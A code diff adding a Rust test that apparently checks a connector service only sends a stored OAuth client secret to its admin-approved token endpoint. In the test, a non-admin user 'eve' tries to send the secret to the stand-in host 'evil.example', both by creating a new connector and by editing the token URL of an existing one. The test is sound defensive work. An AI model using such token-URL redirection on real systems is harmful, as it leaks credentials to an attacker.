@@ -269,3 +269,32 @@ async fn a_refused_connector_leaves_no_secret_behind() {
     assert_eq!(client.raw("POST", "/connectors", &[], Some(wrong)).await.status, StatusCode::UNPROCESSABLE_ENTITY);
     assert_eq!(client.raw("GET", "/secrets", &[], None).await.json(), before);
 }
+
+#[tokio::test]
+async fn credentials_of_auth_may_go_to_the_token_endpoint_alone() {
+    let mut client = RecordingClient::admin().await;
+    client.raw("PUT", "/secrets/CLIENT_SECRET", &[], Some(json!({"value": "canary-1"}))).await;
+    let with_auth = |id: &str, token_url: &str, secret: &str| {
+        let auth = json!({
+            "kind": "oauth2_client_credentials", "token_url": token_url, "client_id": "id", "client_secret": secret,
+        });
+        json!({"id": id, "name": id, "base_url": "https://api.example/v1", "data": {"auth": auth}})
+    };
+    let shared = with_auth("shared", "https://auth.example/t", "$CLIENT_SECRET");
+    client.raw("POST", "/connectors", &[], Some(shared)).await;
+    assert_eq!(origins(&client, "CLIENT_SECRET").await, ["https://auth.example"]);
+
+    let literal = with_auth("literal", "https://auth.example/t", "canary-literal");
+    let saved = client.raw("POST", "/connectors", &[], Some(literal)).await.json();
+    let reference = saved["data"]["auth"]["client_secret"].as_str().expect("it is a text").to_owned();
+    let name = reference.strip_prefix('$').expect("the credential was moved into a secret");
+    assert_eq!(origins(&client, name).await, ["https://auth.example"]);
+
+    client.as_new_user("eve").await;
+    let stolen = with_auth("stolen", "https://evil.example/t", "$CLIENT_SECRET");
+    client.raw("POST", "/connectors", &[], Some(stolen)).await;
+    let mut moved = client.raw("GET", "/connectors/shared", &[], None).await.json();
+    moved["data"]["auth"]["token_url"] = json!("https://evil.example/t");
+    client.raw("PUT", "/connectors/shared", &[], Some(moved)).await;
+    assert_eq!(origins(&client, "CLIENT_SECRET").await, ["https://auth.example"], "only an admin says where it may go");
+}
